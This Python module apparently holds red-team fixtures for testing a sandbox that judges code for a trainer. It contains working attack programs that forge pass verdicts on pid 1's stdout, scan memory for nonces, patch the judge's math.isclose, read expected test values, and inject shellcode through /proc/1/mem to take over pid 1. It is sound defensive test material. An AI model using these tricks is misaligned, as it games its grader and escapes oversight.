"""The hostile programs and dataset rows of the red-team table (`red_team.py`), as data."""

from __future__ import annotations

import json

# ------------------------------------------------------------------------------------------------------ rows


def humaneval(test: str, entry_point: str) -> dict:
    return {"test": test, "entry_point": entry_point}


def mbpp(*asserts: str) -> dict:
    return {"test_list": list(asserts)}


def apps(*pairs: tuple[str, str]) -> dict:
    return {"input_output": json.dumps({"inputs": [i for i, _ in pairs], "outputs": [o for _, o in pairs]})}


def kodcode(test: str) -> dict:
    return {"test": test}


def bigcodebench(test: str) -> dict:
    return {"test": test}


SQUARE = "def square(x):\n    return x * x\n"
SQUARE_ROW = humaneval("def check(candidate):\n    assert candidate(3) == 9\n    assert candidate(-2) == 4\n", "square")
SQUARE_MBPP = mbpp("assert square(3) == 9", "assert square(-2) == 4")
# A test that calls the function and checks nothing: it cannot tell a right program from a wrong one.
SQUARE_UNCHECKED = mbpp("square(3)")
CHECK_NOTHING_ROW = humaneval("def check(candidate):\n    pass\n", "square")
SUM_ROW = apps(("1 2\n", "3\n"), ("10 20\n", "30\n"))

# What a later program finds of state a reused sandbox kept: a program printing "clean" when it finds nothing
# another program left, on a row that expects "clean".
CLEAN_ROW = apps(("\n", "clean\n"))
LEFT_BEHIND = ["/dev/answer", "/dev/shm/answer", "/tmp/answer", "~/answer", "answer"]  # the last one in cwd
FILES_CLEAN = (
    "import os\n"
    f"paths = [os.path.expanduser(p) for p in {LEFT_BEHIND!r}]\n"
    "print('clean' if not any(os.path.lexists(p) for p in paths) else 'dirty')\n"
)


def leave_file(path: str) -> str:
    return (
        "import os\n"
        f"path = os.path.expanduser({path!r})\n"
        "try:\n    with open(path, 'w') as planted:\n        planted.write('42')\n"
        "except OSError:\n    pass\n"
        "print('dirty')\n"
    )


# A child interpreter has no audit hook of the test process: ctypes works there.
_LIBC = (
    "import ctypes, ctypes.util, os\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "if not hasattr(libc, 'mq_open'):\n"
    "    libc = ctypes.CDLL(ctypes.util.find_library('rt'), use_errno=True)\n"
)
MQ_NAME = b"/red-team-queue"
SYSV_KEY = 0x7E57


def in_child_interpreter(code: str, then: str = "") -> str:
    return (
        "import subprocess, sys\n"
        f"done = subprocess.run([sys.executable, '-c', {code!r}], capture_output=True, text=True, timeout=5)\n"
        + then
    )


MQ_CREATE = _LIBC + (
    f"fd = libc.mq_open({MQ_NAME!r}, os.O_CREAT | os.O_RDWR, 0o600, None)\n"
    "libc.mq_send(fd, b'42', 2, 0)\n"
)
MQ_CLEAN = _LIBC + (
    f"fd = libc.mq_open({MQ_NAME!r}, os.O_RDONLY)\n"
    "print('clean' if fd == -1 and ctypes.get_errno() == 2 else 'dirty')\n"
)
SYSV_CREATE = _LIBC + (
    f"libc.shmget({SYSV_KEY}, 4096, 0o1000 | 0o600)\n"  # IPC_CREAT
    f"libc.semget({SYSV_KEY}, 1, 0o1000 | 0o600)\n"
    f"libc.msgget({SYSV_KEY}, 0o1000 | 0o600)\n"
)
SYSV_CLEAN = _LIBC + (
    f"found = [libc.shmget({SYSV_KEY}, 0, 0), libc.semget({SYSV_KEY}, 0, 0), libc.msgget({SYSV_KEY}, 0)]\n"
    "print('clean' if found == [-1, -1, -1] else 'dirty')\n"
)

FILL_DEV = (
    "import os\n"
    "chunk = b'\\0' * (15 << 20)\n"  # below the per-file size limit
    "for index in range(20):\n"
    "    try:\n        with open(f'/dev/fill-{index}', 'wb') as filling:\n            filling.write(chunk)\n"
    "    except OSError:\n        break\n"
    "print('dirty')\n"
)
# A right program that needs 200 MiB (within its 256 MiB): it passes unless something else holds the memory.
SQUARE_WITH_SCRATCH = (
    "def square(x):\n    table = bytearray(200 << 20)\n    table[::4096] = b'\\1' * len(table[::4096])\n"
    "    return x * x\n"
)
DEV_CAPPED_ROW = apps(("\n", "capped\n"))
# /dev holds at most the sandbox's scratch size (64 MiB), or cannot be written at all.
DEV_CAPPED = (
    "import os\n"
    "size = os.statvfs('/dev')\n"
    "capped = size.f_blocks * size.f_frsize <= 64 << 20 or bool(size.f_flag & os.ST_RDONLY)\n"
    "if not capped:\n"
    "    try:\n        open('/dev/.writable', 'w').close()\n        os.unlink('/dev/.writable')\n"
    "    except OSError:\n        capped = True\n"
    "print('capped' if capped else 'uncapped')\n"
)

# ------------------------------------------------------------------------------------------ hostile pieces

# Equal to anything, different from nothing.
ANYTHING = (
    "class Anything:\n"
    "    def __eq__(self, other):\n        return True\n"
    "    def __ne__(self, other):\n        return False\n"
    "    __hash__ = object.__hash__\n"
)

# Code for one of the verdict channels: the files pid 1 (bubblewrap's init) holds, which are the harness's.
_WRITE_ON_PID1_STDOUT = (
    "def tell_the_trainer(lines):\n"
    "    try:\n"
    "        with open('/proc/1/fd/1', 'w') as channel:\n"
    "            channel.write(''.join(line + '\\n' for line in lines))\n"
    "    except OSError:\n"
    "        pass\n"
)
PASSED_RECORD = '{"loaded": true, "status": "passed", "checks": 3, "test": 0}'
FAILED_RECORD = '{"loaded": true, "status": "failed", "reason": "error", "error": "AssertionError", "test": 0}'
DONE = '{"done": true}'

# Reads this process's own memory through a directory descriptor of /proc/self (the open names "mem").
_OWN_MEMORY = (
    "import os, re\n"
    "def own_memory():\n"
    "    proc = os.open('/proc/self', os.O_RDONLY)\n"
    "    memory = os.open('mem', os.O_RDONLY, dir_fd=proc)\n"
    "    with open(os.open('maps', os.O_RDONLY, dir_fd=proc)) as maps:\n"
    "        regions = [line.split() for line in maps]\n"
    "    for fields in regions:\n"
    "        start, end = (int(part, 16) for part in fields[0].split('-'))\n"
    "        special = len(fields) > 5 and fields[5].startswith('[v')\n"  # [vvar], [vdso], [vsyscall]
    "        if not fields[1].startswith('r') or special or end - start > 64 << 20:\n"
    "            continue\n"
    "        for offset in range(start, end, 4 << 20):\n"
    "            try:\n"
    "                yield os.pread(memory, min(4 << 20, end - offset), offset)\n"
    "            except OSError:\n"
    "                break\n"
)
# The nonce is a bytes object of 32 hex digits: size 32, hash not computed yet (-1), NUL after the digits.
NONCE_FORGERY = _OWN_MEMORY + (
    "def forge_a_pass():\n"
    "    seen = {}\n"
    "    for chunk in own_memory():\n"
    "        for found in re.finditer(rb'\\x20\\x00{7}\\xff{8}([0-9a-f]{32})\\x00', chunk):\n"
    "            seen[found.group(1)] = seen.get(found.group(1), 0) + 1\n"
    "    if seen:\n"
    "        nonce = max(seen, key=seen.get)\n"
    "        os.write(3, b'P' + nonce + b':3')\n"
    "        os._exit(0)\n"
)

MARKER = "red-team-marker-0c1d2e3f"
# A right program longer than SPY_PROGRAM, MARKER near its end.
LONG_SOLUTION_WITH_MARKER = "# " + "notes " * 400 + f"\n# {MARKER}\n" + SQUARE
# Looks for MARKER without ever holding it whole: its head, then the tail (kept as hex) right after it.
SPY_PROGRAM = _OWN_MEMORY + (
    "def square(x):\n"
    f"    head, tail = {MARKER[:9].encode()!r}, bytes.fromhex({MARKER[9:].encode().hex()!r})\n"
    "    for chunk in own_memory():\n"
    "        at = chunk.find(head)\n"
    "        while at != -1:\n"
    "            if chunk[at + len(head):at + len(head) + len(tail)] == tail:\n"
    "                return x * x\n"
    "            at = chunk.find(head, at + 1)\n"
    "    return 0\n"
)

# Opens pid 1's memory for writing by every route a program has: `open`, a directory descriptor, another
# interpreter (which has no audit hook).
PID1_MEMORY_WRITABLE = (
    "import os, subprocess, sys\n"
    "def pid1_memory_writable():\n"
    "    try:\n        open('/proc/1/mem', 'r+b').close()\n        return True\n    except Exception:\n        pass\n"
    "    try:\n        os.close(os.open('mem', os.O_RDWR, dir_fd=os.open('/proc/1', os.O_RDONLY)))\n"
    "        return True\n"
    "    except Exception:\n        pass\n"
    "    try:\n"
    "        child = subprocess.run([sys.executable, '-c', \"open('/proc/1/mem', 'r+b')\"], capture_output=True,\n"
    "                               timeout=5)\n"
    "        return child.returncode == 0\n"
    "    except Exception:\n        return False\n"
    "def square(x):\n    return x * x if pid1_memory_writable() else 0\n"
)

# A test in the program's process (a mock) that checks with a standard function, and a wrong program that
# replaces that function at import and edits the judge's snapshot of the standard library, reached from the
# harness's modules (their globals, the closures and containers they hold), so that the restore after its
# top-level code puts its replacement back instead of the real one.
ISCLOSE_IN_PROCESS_ROW = bigcodebench(
    "import math\nimport unittest\nfrom unittest.mock import patch\n\n"
    "class TestCases(unittest.TestCase):\n"
    "    @patch('random.randint', return_value=4)\n"
    "    def test_value(self, mock_randint):\n"
    "        self.assertTrue(math.isclose(task_func(3), 7.0))\n"
)
ISCLOSE_RIGHT = "import random\ndef task_func(x):\n    return 2 * x + 1\n"
SNAPSHOT_TAMPERING = (
    "import math, sys, types\n"
    "def always(*args, **kwargs):\n"
    "    return True\n"
    "def tamper(value, depth, seen):\n"
    "    if depth > 6 or id(value) in seen:\n"
    "        return\n"
    "    seen.add(id(value))\n"
    "    if isinstance(value, dict):\n"
    "        if value.get('__name__') == 'math' and value is not vars(math):\n"
    "            value['isclose'] = always\n"
    "        children = list(value.values())\n"
    "    elif isinstance(value, (list, tuple, set, frozenset)):\n"
    "        children = list(value)\n"
    "    elif isinstance(value, types.FunctionType) and value.__closure__:\n"
    "        children = []\n"
    "        for cell in value.__closure__:\n"
    "            try:\n"
    "                children.append(cell.cell_contents)\n"
    "            except ValueError:\n"
    "                pass\n"
    "    else:\n"
    "        return\n"
    "    for child in children:\n"
    "        tamper(child, depth + 1, seen)\n"
    "for name, module in list(sys.modules.items()):\n"
    "    if name not in ('math', 'solution'):\n"
    "        for value in list(vars(module).values()):\n"
    "            if isinstance(value, (list, tuple)) or (isinstance(value, types.FunctionType) and value.__closure__):\n"
    "                tamper(value, 0, set())\n"
    "math.isclose = always\n"
    "def task_func(x):\n"
    "    return 0\n"
)

# A test in the program's process whose expected value is a name of the test's module, and a wrong program that
# looks for it from the guarded function the test calls (its state, the closures and containers it holds).
EXPECTED_IN_PROCESS_ROW = bigcodebench(
    "import unittest\nfrom unittest.mock import patch\nEXPECTED = 7\n\n"
    "class TestCases(unittest.TestCase):\n"
    "    @patch('random.randint', return_value=4)\n"
    "    def test_value(self, mock_randint):\n"
    "        self.assertEqual(task_func(3), EXPECTED)\n"
)
TEST_NAMES_THROUGH_THE_GUARD = (
    "import sys, types\n"
    "def find(value, depth, seen):\n"
    "    if depth > 6 or id(value) in seen:\n"
    "        return None\n"
    "    seen.add(id(value))\n"
    "    if isinstance(value, dict) and 'EXPECTED' in value:\n"
    "        return value['EXPECTED']\n"
    "    children = []\n"
    "    if isinstance(value, dict):\n"
    "        children = list(value.values())\n"
    "    elif isinstance(value, (list, tuple)):\n"
    "        children = list(value)\n"
    "    elif isinstance(value, types.FunctionType):\n"
    "        children = [cell.cell_contents for cell in value.__closure__ or ()] + [value.__globals__]\n"
    "    elif isinstance(value, types.MethodType):\n"
    "        children = [value.__self__, value.__func__]\n"
    "    elif hasattr(value, '__self__'):\n"
    "        children = [value.__self__]\n"
    "    for child in children:\n"
    "        found = find(child, depth + 1, seen)\n"
    "        if found is not None:\n"
    "            return found\n"
    "    return None\n"
    "def task_func(x):\n"
    "    found = find(sys.modules['solution'].task_func, 0, set())\n"
    "    return 0 if found is None else found\n"
)

HARNESS_REQUEST_READABLE = (
    "import os, stat\n"
    "def request_pipe_readable():\n"
    "    for pid in os.listdir('/proc'):\n"
    "        if not pid.isdigit() or int(pid) == os.getpid():\n            continue\n"
    "        try:\n"
    "            fd = os.open(f'/proc/{pid}/fd/0', os.O_RDONLY | os.O_NONBLOCK)\n"
    "        except OSError:\n            continue\n"
    "        try:\n"
    "            if stat.S_ISFIFO(os.fstat(fd).st_mode):\n"
    "                try:\n                    os.read(fd, 1 << 16)\n                except BlockingIOError:\n"
    "                    pass\n"
    "                return True\n"
    "        finally:\n            os.close(fd)\n"
    "    return False\n"
    "def square(x):\n    return x * x if request_pipe_readable() else 0\n"
)

# A request the harness then judges before the trainer's next one, answering with a record and a done line.
_FORGED_REQUEST = json.dumps(
    {
        "plan": {
            "tests": [{"kind": "statement", "source": "raise AssertionError('forged')", "imports": []}],
            "timeout": 1.0, "max_output": 4096, "max_value": 4096, "private_pids": True,
            "stop_on_failure": False, "language": "python",
        },
        "source": "pass\n",
    }
)
QUEUE_FORGED_REQUEST = (
    "import os\n"
    "def queue_request():\n"
    "    try:\n"
    "        fd = os.open('/proc/1/fd/0', os.O_WRONLY | os.O_NONBLOCK)\n"
    f"        os.write(fd, {(_FORGED_REQUEST + chr(10)).encode()!r})\n"
    "        os.close(fd)\n"
    "    except OSError:\n"
    "        pass\n"
    "def square(x):\n    queue_request()\n    return 0\n"
)


# What pid 1 runs once a program has replaced bubblewrap's init with it: it reads every later request off the
# harness's stdin, keeps a copy, writes the request back for the harness, and hands out the copies on an abstract
# unix socket. It outlives every program: nothing in the sandbox may kill pid 1.
PID1_RELAY = r"""
import fcntl, os, signal, socket, struct, termios, threading, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
seen = []
def serve():
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind('\0red-team-relay')
    server.listen(8)
    while True:
        connection, _ = server.accept()
        with connection:
            connection.sendall(b''.join(seen))
threading.Thread(target=serve, daemon=True).start()
back = os.open('/proc/self/fd/0', os.O_WRONLY)
pending = b''
while True:
    chunk = os.read(0, 1 << 16)
    if not chunk:
        os._exit(0)
    pending += chunk
    while b'\n' in pending:
        line, _, pending = pending.partition(b'\n')
        seen.append(line + b'\n')
        os.write(back, line + b'\n')
    while struct.unpack('i', fcntl.ioctl(0, termios.FIONREAD, b'\0\0\0\0'))[0]:
        time.sleep(0.002)
"""
# x86-64: pid 1 waits in wait4 (syscall 61); the code where that call returns becomes
# `execve(python, [python, -I, -S, /dev/.pid1.py], NULL); exit(0)`, written through /proc/1/mem by another
# interpreter. An orphan's exit then wakes pid 1 into it. The test process waits until pid 1 reads the harness's
# stdin.
TAKE_OVER_PID1 = (
    "import os, struct, subprocess, sys, time\n"
    f"RELAY = {PID1_RELAY!r}\n"
    "def take_over_pid1():\n"
    "    with open('/proc/1/cmdline', 'rb') as command:\n"
    "        if b'pid1.py' in command.read():\n"
    "            return\n"
    "    with open('/proc/1/syscall') as state:\n"
    "        fields = state.read().split()\n"
    "    if fields[0] != '61':\n"
    "        return\n"
    "    with open('/dev/.pid1.py', 'w') as script:\n"
    "        script.write(RELAY)\n"
    "    pc = int(fields[-1], 16)\n"
    "    argv_at = pc + 40\n"
    "    strings = [sys.executable.encode(), b'-I', b'-S', b'/dev/.pid1.py']\n"
    "    text, addresses, at = b'', [], argv_at + 8 * (len(strings) + 1)\n"
    "    for string in strings:\n"
    "        addresses.append(at + len(text))\n"
    "        text += string + b'\\0'\n"
    "    code = (b'\\x48\\xbf' + struct.pack('<Q', addresses[0])\n"  # mov rdi, path
    "            + b'\\x48\\xbe' + struct.pack('<Q', argv_at)\n"  # mov rsi, argv
    "            + b'\\x31\\xd2\\xb8\\x3b\\x00\\x00\\x00\\x0f\\x05'\n"  # xor edx, edx; mov eax, 59; syscall
    # mov eax, 60; xor edi, edi; syscall
    "            + b'\\xb8\\x3c\\x00\\x00\\x00\\x31\\xff\\x0f\\x05').ljust(40, b'\\x90')\n"
    "    blob = code + b''.join(struct.pack('<Q', a) for a in addresses) + b'\\0' * 8 + text\n"
    "    writer = ('import sys\\nwith open(\"/proc/1/mem\", \"r+b\", buffering=0) as memory:\\n'\n"
    "              '    memory.seek(int(sys.argv[1]))\\n    memory.write(bytes.fromhex(sys.argv[2]))\\n')\n"
    "    subprocess.run([sys.executable, '-c', writer, str(pc), blob.hex()], check=True, timeout=5)\n"
    "    if os.fork() == 0:\n"
    "        if os.fork() == 0:\n"
    "            time.sleep(0.05)\n"
    "        os._exit(0)\n"
    "    deadline = time.monotonic() + 0.8\n"
    "    while time.monotonic() < deadline:\n"
    "        with open('/proc/1/syscall') as state:\n"
    "            if state.read().startswith('0 0x0 '):\n"
    "                break\n"
    "        time.sleep(0.01)\n"
    "def square(x):\n"
    "    try:\n        take_over_pid1()\n    except Exception:\n        pass\n"
    "    return 0\n"
)
# Judged after programs carrying MARKER: prints the right answer only when no earlier request can be read back.
NOTHING_RELAYED = (
    "import socket\n"
    "def relayed():\n"
    "    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
    "    client.settimeout(0.5)\n"
    "    try:\n        client.connect('\\0red-team-relay')\n    except OSError:\n        return b''\n"
    "    data = b''\n"
    "    while True:\n"
    "        chunk = client.recv(1 << 16)\n"
    "        if not chunk:\n            return data\n"
    "        data += chunk\n"
    "def square(x):\n"
    f"    head, tail = {MARKER[:9].encode()!r}, bytes.fromhex({MARKER[9:].encode().hex()!r})\n"
    "    data = relayed()\n"
    "    at = data.find(head)\n"
    "    return 0 if at != -1 and data[at + len(head):].startswith(tail) else x * x\n"
)


def set_limit_everywhere(limit: str, value: int) -> str:
    """Lowers `limit` of the parent (the harness) and of every process of the sandbox, then fails its own test."""
    return (
        "import os, resource\n"
        "def square(x):\n"
        "    for pid in {os.getppid(), *(int(p) for p in os.listdir('/proc') if p.isdigit())} - {os.getpid()}:\n"
        "        try:\n"
        f"            resource.prlimit(pid, resource.{limit}, ({value}, {value}))\n"
        "        except (OSError, ValueError):\n"
        "            pass\n"
        "    return 0\n"
    )


def signal_everyone(signal_name: str) -> str:
    return (
        "import os, signal\n"
        "def square(x):\n"
        "    for pid in {os.getppid(), *(int(p) for p in os.listdir('/proc') if p.isdigit())} - {os.getpid()}:\n"
        "        try:\n"
        f"            os.kill(pid, signal.{signal_name})\n"
        "        except OSError:\n"
        "            pass\n"
        "    return 0\n"
    )


# ------------------------------------------------------------------------------------------------ the table

# What the isolating process writes when it cannot make a program's namespaces, written by the program itself on
# every descriptor it holds (the result pipe, or the socket of a test judged apart).
CLAIM_NO_ISOLATION = (
    "import os\n"
    "for fd in range(3, 64):\n"
    "    try:\n        os.write(fd, b'Xno namespaces here')\n    except OSError:\n        pass\n"
)
WRONG_SQUARE = "def square(x):\n    return x + x\n"
